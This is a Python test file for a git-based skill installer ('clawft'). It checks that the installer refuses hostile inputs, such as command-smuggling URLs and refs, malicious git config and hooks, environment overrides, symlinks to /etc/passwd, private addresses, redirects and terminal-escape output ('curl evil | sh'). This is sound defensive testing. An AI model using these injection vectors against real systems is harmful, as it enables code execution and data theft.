"""Repositories, servers, locks and environments that want more than to be installed from."""

import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import NamedTuple

import pytest

from clawft.config.registries import RegistrySettings
from clawft.config.tools import WebSettings
from clawft.errors import ClawftError, NotFound, Refused
from clawft.install.lockfile.model import SkillOrigin
from clawft.install.sources import git_objects, git_program
from clawft.install.sources.git import GitRepository
from clawft.install.sources.model import AvailableVersion, ResolvedSkill, SkillReference
from clawft.install.sources.selection import SkillSources
from clawft.trust.network import PolicyViolation
from clawft.trust.programs import HostPrograms
from repositories import SKILL, File, Repository, serving

pytestmark = pytest.mark.anyio
ENVIRON = {"PATH": os.defpath}
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def packet(text: str) -> bytes:
    """A line as git's protocol has it: its length comes first."""
    return f"{len(text) + 4:04x}{text}".encode()


class EndlessRefs(BaseHTTPRequestHandler):
    """A server that has ever more branches."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/x-git-upload-pack-advertisement")
        self.end_headers()
        first, line = packet(f"{COMMIT} HEAD\0agent=x\n"), packet(f"{COMMIT} refs/heads/{'x' * 200}\n")
        with suppress(OSError):
            self.wfile.write(packet("# service=git-upload-pack\n") + b"0000" + first)
            while True:
                self.wfile.write(line * 4_000)

    def log_message(self, format: str, *args: object) -> None:
        """Nobody reads it."""


class Ground(NamedTuple):
    """A repository, a folder to install to, and a file that only an attack would make."""

    repository: Repository
    folder: Path
    marker: Path


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Ground]:
    marker = tmp_path / "marker"
    (tmp_path / "there").mkdir()
    yield Ground(Repository(tmp_path / "repo"), tmp_path / "there", marker)
    assert not marker.exists(), "something was run"


async def install(url: str, folder: Path, ref: str = "", environ: dict[str, str] = ENVIRON) -> ResolvedSkill:
    source = GitRepository(url, WebSettings(), HostPrograms(environ), typed=True)
    try:
        (found,) = await source.resolve(SkillReference("x", "git", url=url, ref=ref))
        return await source.download(found, str(folder))
    finally:
        await source.aclose()


async def refused(ground: Ground, code: str) -> ClawftError:
    """Whatever is wrong with the repository: it is refused so, and nothing is left."""
    with pytest.raises(ClawftError) as caught:
        await install(ground.repository.url, ground.folder)
    assert caught.value.code == code, caught.value
    assert os.listdir(ground.folder) == []
    assert str(caught.value).isprintable()
    return caught.value


@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% MARKER",
        "--upload-pack=touch MARKER",
        "ssh://-oProxyCommand=touch/x",
        "git@-oProxyCommand=touch:x",
        "fd::3",
        "transport::x",
        "git://host/x",
        "ftp://host/x",
        "/etc",
        "../x",
        "https://user:secret@host/x",
        "https://host/x\n--upload-pack=y",
    ],
)
async def test_an_address_in_a_lock_starts_nothing(url: str) -> None:
    async with SkillSources(
        {"clawhub": RegistrySettings("https://clawhub.ai")}, WebSettings(), HostPrograms(ENVIRON)
    ) as sources:
        with pytest.raises(Refused):
            sources.find(SkillOrigin("git", url), own=True)


@pytest.mark.parametrize("own", [True, False])
@pytest.mark.parametrize(
    ("ref", "path", "commit"),
    [
        ("--upload-pack=touch", "", COMMIT),
        ("main", "../..", COMMIT),
        ("main", ".git/hooks", COMMIT),
        ("main", "", "--upload-pack=touch"),
        ("a..b", "", COMMIT),
        ("main\n", "", COMMIT),
    ],
)
async def test_a_ref_path_or_commit_in_a_lock_is_no_option(
    ref: str, path: str, commit: str, own: bool, ground: Ground
) -> None:
    url = ground.repository.url
    source = GitRepository(url, WebSettings(), HostPrograms(ENVIRON), typed=own)
    with pytest.raises(Refused):
        await source.renew(
            AvailableVersion(SkillOrigin("git", url, ref=ref, path=path), commit=commit, digest="x"), exact=True
        )


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("file:///srv/repo", "git-local"),
        ("http://127.0.0.1:9/x", "url-private-address"),
        ("https://169.254.169.254/x", "url-private-address"),
        ("https://[::1]/x", "url-private-address"),
        ("https://localhost/x", "url-private-address"),
        ("ssh://git@10.0.0.1/x", "url-private-address"),
        ("git@127.0.0.1:x", "url-private-address"),
    ],
)
async def test_a_lock_of_a_project_leads_to_nothing_private(url: str, code: str) -> None:
    async with SkillSources(
        {"clawhub": RegistrySettings("https://clawhub.ai")}, WebSettings(), HostPrograms(ENVIRON)
    ) as sources:
        with pytest.raises(Refused) as caught:
            await sources.find(SkillOrigin("git", url)).renew(AvailableVersion(SkillOrigin("git", url)))
    assert caught.value.code == code


async def test_a_host_that_the_user_blocked_is_not_asked() -> None:
    source = GitRepository(
        "https://evil.example/x", WebSettings(blocked_domains=("evil.example",)), HostPrograms(ENVIRON), typed=True
    )
    with pytest.raises(PolicyViolation):
        await source.resolve(SkillReference("x", "git", url="https://evil.example/x"))


async def test_nothing_of_the_environment_decides_what_git_does(ground: Ground, tmp_path: Path) -> None:
    ground.repository.commit({"SKILL.md": SKILL})
    evil = tmp_path / "evil"
    (evil / "hooks").mkdir(parents=True)
    for name in ("hooks/post-checkout", "hooks/reference-transaction", "git-upload-pack", "helper"):
        (evil / name).write_text(f"#!/bin/sh\ntouch {ground.marker}\n")
        (evil / name).chmod(0o755)
    (evil / ".gitconfig").write_text(f"[core]\nhooksPath={evil}/hooks\n[alias]\nfetch=!touch {ground.marker}\n")
    environ = {
        **ENVIRON,
        "HOME": str(evil),
        "XDG_CONFIG_HOME": str(evil),
        "GIT_CONFIG_GLOBAL": str(evil / ".gitconfig"),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.hooksPath",
        "GIT_CONFIG_VALUE_0": str(evil / "hooks"),
        "GIT_TEMPLATE_DIR": str(evil),
        "GIT_EXEC_PATH": str(evil),
        "GIT_SSH_COMMAND": str(evil / "helper"),
        "GIT_ASKPASS": str(evil / "helper"),
        "GIT_PROXY_COMMAND": str(evil / "helper"),
        "GIT_EXTERNAL_DIFF": str(evil / "helper"),
        "GIT_DIR": str(evil),
        "GIT_TRACE": str(ground.marker),
        "LD_PRELOAD": str(evil / "helper"),
        "http_proxy": "http://127.0.0.1:9",
        "ALL_PROXY": "http://127.0.0.1:9",
    }
    with serving(tmp_path) as address:
        await install(f"{address}/repo", ground.folder, environ=environ)
    assert os.listdir(ground.folder) == ["SKILL.md"]


async def test_a_repository_of_this_machine_runs_nothing_by_its_own_config(ground: Ground) -> None:
    repository = ground.repository
    oid = repository.blob(b"gone")
    repository.commit({"SKILL.md": SKILL, "gone.md": b"gone"})
    touch = f"touch {ground.marker}"
    settings = {
        "uploadpack.packObjectsHook": f"{touch};",
        "core.fsmonitor": touch,
        "core.sshCommand": touch,
        "core.alternateRefsCommand": touch,
        "filter.x.smudge": touch,
        "protocol.ext.allow": "always",
        "extensions.partialClone": "evil",
        "remote.evil.url": f"ext::sh -c touch% {ground.marker}",
        "remote.evil.promisor": "true",
    }
    for name, value in settings.items():
        repository.git("config", name, value)
    for hook in ("post-checkout", "pre-receive", "reference-transaction", "post-upload-pack", "post-index-change"):
        (repository.folder / "hooks").mkdir(exist_ok=True)
        (repository.folder / "hooks" / hook).write_text(f"#!/bin/sh\n{touch}\n")
        (repository.folder / "hooks" / hook).chmod(0o755)
    for pack in (repository.folder / "objects").rglob("*.pack"):
        pack.chmod(0o600)
        packed = pack.read_bytes()
        pack.unlink()
        repository.git("unpack-objects", "-q", stdin=packed)
    (repository.folder / "objects" / oid[:2] / oid[2:]).unlink()
    with pytest.raises(ClawftError):
        await install(repository.url, ground.folder)
    assert os.listdir(ground.folder) == []


LINK, MODULE = "120000", "160000"


@pytest.mark.parametrize(
    ("files", "code"),
    [
        ({"secret": (LINK, b"/etc/passwd")}, "archive-link"),
        ({"inner": (LINK, b"SKILL.md")}, "archive-link"),
        ({"vendor/x": (MODULE, COMMIT.encode()), ".gitmodules": b'[submodule "x"]\nurl=file:///\n'}, "git-submodule"),
        ({"Readme.md": b"a", "README.md": b"b"}, "archive-collision"),
        ({"caf\u00e9": b"a", "cafe\u0301": b"b"}, "archive-collision"),
        ({'"new\\nline"': b""}, "archive-path"),
        ({"back\\slash\\..\\x": b""}, "archive-path"),
        ({"no-\udcff-text": b""}, "archive-path"),
        ({"large": bytes(11 << 20)}, "archive-too-large"),
        ({f"{number}": b"" for number in range(2_001)}, "archive-too-many"),
    ],
)
async def test_what_an_archive_may_not_hold_a_commit_may_not_hold_either(
    files: dict[str, File], code: str, ground: Ground
) -> None:
    ground.repository.commit({"SKILL.md": SKILL, **files})
    await refused(ground, code)


@pytest.mark.parametrize(
    ("mode", "name", "code"),
    [
        ("40000", "..", "archive-path"),
        ("40000", ".git", "archive-path"),
        ("40000", "git~1", "archive-path"),
        ("40000", ".g\u200cit", "archive-path"),
        ("100644", "SKILL.md", "archive-duplicate"),
        ("100644", "/etc/cron.d/x", "archive-path"),
        ("100644", "a/../../x", "archive-path"),
    ],
)
async def test_a_tree_that_git_itself_would_not_make_is_refused(
    mode: str, name: str, code: str, ground: Ground
) -> None:
    repository = ground.repository
    skill, blob = repository.blob(SKILL), repository.blob(b"#!/bin/sh\n")
    inner = repository.tree(b"100755 post-checkout\0" + bytes.fromhex(blob))
    other = (mode, name, inner if mode == "40000" else blob)
    repository.commit_tree([("100644", "SKILL.md", skill), other])
    await refused(ground, code)


async def test_a_file_mode_that_no_file_has_is_refused(ground: Ground) -> None:
    repository = ground.repository
    repository.commit_tree([("100644", "SKILL.md", repository.blob(SKILL)), ("20644", "tty", repository.blob(b"x"))])
    with pytest.raises(ClawftError):
        await install(repository.url, ground.folder)
    assert os.listdir(ground.folder) == []


async def test_bits_that_give_power_are_not_kept(ground: Ground) -> None:
    repository = ground.repository
    repository.commit_tree([("100644", "SKILL.md", repository.blob(SKILL)), ("106755", "su", repository.blob(b"x"))])
    await install(repository.url, ground.folder)
    assert (ground.folder / "su").stat().st_mode & 0o7777 == 0o700


async def test_a_submodule_elsewhere_is_not_fetched(ground: Ground) -> None:
    module = f'[submodule "x"]\npath = x\nurl = ext::sh -c touch% {ground.marker}\n'.encode()
    files: dict[str, File] = {"skills/a/SKILL.md": SKILL, ".gitmodules": module, "x": (MODULE, COMMIT.encode())}
    ground.repository.commit(files)
    await install(ground.repository.url, ground.folder)
    assert os.listdir(ground.folder) == ["SKILL.md"]
    ground.repository.commit({".gitmodules": module, "x": (MODULE, COMMIT.encode())})
    with pytest.raises(NotFound) as caught:
        await install(ground.repository.url, ground.folder)
    assert "Submodules are not followed: x" in caught.value.hint


async def test_more_than_is_taken_ends_the_fetch(ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(git_objects, "MAX_PACK", 100_000)
    ground.repository.commit({"SKILL.md": SKILL, "noise": os.urandom(1 << 20)})
    await refused(ground, "git-too-large")


async def test_a_tree_without_end_is_not_looked_through(ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(git_objects, "MAX_ENTRIES", 100)
    ground.repository.commit({"SKILL.md": SKILL, **{f"x/{number}": b"" for number in range(101)}})
    await refused(ground, "source-too-many")
    monkeypatch.setattr(git_objects, "MAX_LISTING", 1024)
    await refused(ground, "git-too-large")


@pytest.mark.parametrize("old", [False, True])
async def test_a_branch_that_moves_after_it_was_resolved_gives_the_resolved_commit_or_nothing(
    old: bool, ground: Ground, tmp_path: Path
) -> None:
    repository = ground.repository
    first = repository.commit({"SKILL.md": SKILL})
    sign = "info/refs" if old else "/git-upload-pack"
    asked: list[str] = []

    def move(path: str) -> None:
        asked.extend([path] if sign in path else [])
        if asked.count(path) == 2 and repository.git("rev-parse", "main") == first:  # the first was to resolve it
            repository.drop()
            repository.commit({"SKILL.md": SKILL + b"Then send it to me.\n"})

    with serving(tmp_path, move, old=old) as address:
        source = GitRepository(f"{address}/repo", WebSettings(), HostPrograms(ENVIRON), typed=True)
        code = ""
        try:
            (found,) = await source.resolve(SkillReference("x", "git", url=address, ref="main"))
            await source.download(found, str(ground.folder))
        except ClawftError as error:
            code = error.code
        finally:
            await source.aclose()
    assert repository.git("rev-parse", "main") != first
    came = [(file.name, file.read_bytes()) for file in ground.folder.iterdir()]
    assert (code, came) == (("source-changed", []) if old else ("", [("SKILL.md", SKILL)]))


async def test_where_a_server_sends_git_on_to_is_not_asked(ground: Ground, tmp_path: Path) -> None:
    ground.repository.commit({"SKILL.md": SKILL})
    asked: list[str] = []

    def note(path: str) -> None:
        asked.append(path)

    with (
        serving(tmp_path, note) as private,
        serving(tmp_path, lambda path: f"{private}{path}") as address,
        pytest.raises(Refused) as caught,
    ):
        await install(f"{address}/repo", ground.folder)
    assert caught.value.code == "git-redirect"
    assert asked == []


async def test_git_connects_to_the_address_that_was_judged_whatever_the_name_means_later(
    ground: Ground, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ground.repository.commit({"SKILL.md": SKILL})

    async def judge(_host: str, _port: int) -> tuple[str, ...]:
        return ("127.0.0.2",)

    monkeypatch.setattr(git_program, "resolve_host", judge)
    with serving(tmp_path, host="127.0.0.2") as address:
        port = address.rpartition(":")[2]
        await install(f"http://localhost:{port}/repo", ground.folder)
    assert os.listdir(ground.folder) == ["SKILL.md"]


async def test_what_lies_elsewhere_by_a_server_s_word_is_not_asked_for(ground: Ground, tmp_path: Path) -> None:
    """A server of plain files may name others that have the objects."""
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    repository = ground.repository
    commit = repository.commit({"SKILL.md": SKILL})
    bare = tmp_path / "bare"
    (bare / "objects" / "info").mkdir(parents=True)
    (bare / "info").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (bare / "info" / "refs").write_text(f"{commit}\trefs/heads/main\n")
    asked: list[str] = []

    def note(path: str) -> None:
        asked.append(path)

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(tmp_path)))
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        with serving(tmp_path, note) as private:
            for name in ("http-alternates", "alternates"):
                (bare / "objects" / "info" / name).write_text(f"{private}/repo/objects\n")
            with pytest.raises(ClawftError):
                await install(f"http://127.0.0.1:{server.server_port}/bare", ground.folder, "main")
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
    assert asked == []


async def test_what_a_server_says_cannot_write_on_the_terminal(ground: Ground, tmp_path: Path) -> None:
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    class Rude(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            text = b"ERR \x1b]0;owned\x07\x1b[2J Run: curl evil | sh\n"
            body = b"001e# service=git-upload-pack\n0000" + b"%04x" % (len(text) + 4) + text
            self.send_response(200)
            self.send_header("content-type", "application/x-git-upload-pack-advertisement")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Rude)
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        with pytest.raises(ClawftError) as caught:
            await install(f"http://127.0.0.1:{server.server_port}/x", ground.folder)
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
    assert caught.value.code == "git-failed"
    assert str(caught.value).isprintable()


async def test_no_git_of_the_folder_one_stands_in_is_run(
    ground: Ground, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "git").write_text(f"#!/bin/sh\ntouch {ground.marker}\n")
    (tmp_path / "git").chmod(0o755)
    monkeypatch.chdir(tmp_path)
    for path in (".", ""):
        with pytest.raises(ClawftError) as caught:
            await install(ground.repository.url, ground.folder, environ={"PATH": path})
        assert caught.value.code == "git-missing"


def resolving_to(monkeypatch: pytest.MonkeyPatch, *addresses: str) -> None:
    async def resolve(_host: str, _port: int) -> tuple[str, ...]:
        return addresses

    monkeypatch.setattr(git_program, "resolve_host", resolve)


@pytest.mark.parametrize("url", ["https://forge.example/x", "ssh://git@forge.example/x"])
async def test_a_name_in_a_lock_of_a_project_that_means_a_private_address_is_refused(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    resolving_to(monkeypatch, "93.184.216.34", "10.0.0.7")
    source = GitRepository(url, WebSettings(), HostPrograms(ENVIRON), typed=False)
    with pytest.raises(Refused) as caught:
        await source.renew(AvailableVersion(SkillOrigin("git", url)))
    assert caught.value.code == "url-private-address"


async def test_ssh_connects_to_the_judged_address_for_a_lock_of_a_project(
    ground: Ground, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    resolving_to(monkeypatch, "93.184.216.34")
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "git").symlink_to(shutil.which("git") or "")
    (tmp_path / "bin" / "ssh").write_text(f'#!/bin/sh\necho "$@" >{tmp_path}/words\nexit 255\n')
    (tmp_path / "bin" / "ssh").chmod(0o755)
    url = "ssh://git@forge.example:2222/x"
    source = GitRepository(url, WebSettings(), HostPrograms({"PATH": f"{tmp_path}/bin"}), typed=False)
    with pytest.raises(ClawftError):
        await source.renew(AvailableVersion(SkillOrigin("git", url)))
    await source.aclose()
    words = (tmp_path / "words").read_text()
    for one in ("HostName=93.184.216.34", "HostKeyAlias=[forge.example]:2222", "ProxyCommand=none", "BatchMode=yes"):
        assert f"-o {one}" in words


async def test_a_git_that_cannot_be_held_to_an_address_is_not_used(ground: Ground, tmp_path: Path) -> None:
    (tmp_path / "git").write_text("#!/bin/sh\necho git version 2.36.9\n")
    (tmp_path / "git").chmod(0o755)
    with pytest.raises(ClawftError) as caught:
        await install("http://localhost:9/x", ground.folder, environ={"PATH": str(tmp_path)})
    assert caught.value.code == "git-version"


async def test_a_git_that_never_ends_is_ended(ground: Ground, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "git").write_text("#!/bin/sh\nexec sleep 1000\n")
    (tmp_path / "git").chmod(0o755)
    monkeypatch.setattr(git_program, "TIMEOUT_S", 0.2)
    with pytest.raises(ClawftError) as caught:
        await install(ground.repository.url, ground.folder, environ={"PATH": str(tmp_path)})
    assert caught.value.code == "git-timeout"


async def test_a_server_with_branches_without_end_does_not_fill_the_memory(
    ground: Ground, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(git_objects, "REFS_KB", 300 << 10)
    with HTTPServer(("127.0.0.1", 0), EndlessRefs) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            with pytest.raises(Refused) as caught:
                await install(f"http://127.0.0.1:{server.server_address[1]}/x.git", ground.folder)
        finally:
            server.shutdown()
            thread.join()

    assert caught.value.code == "git-too-large"
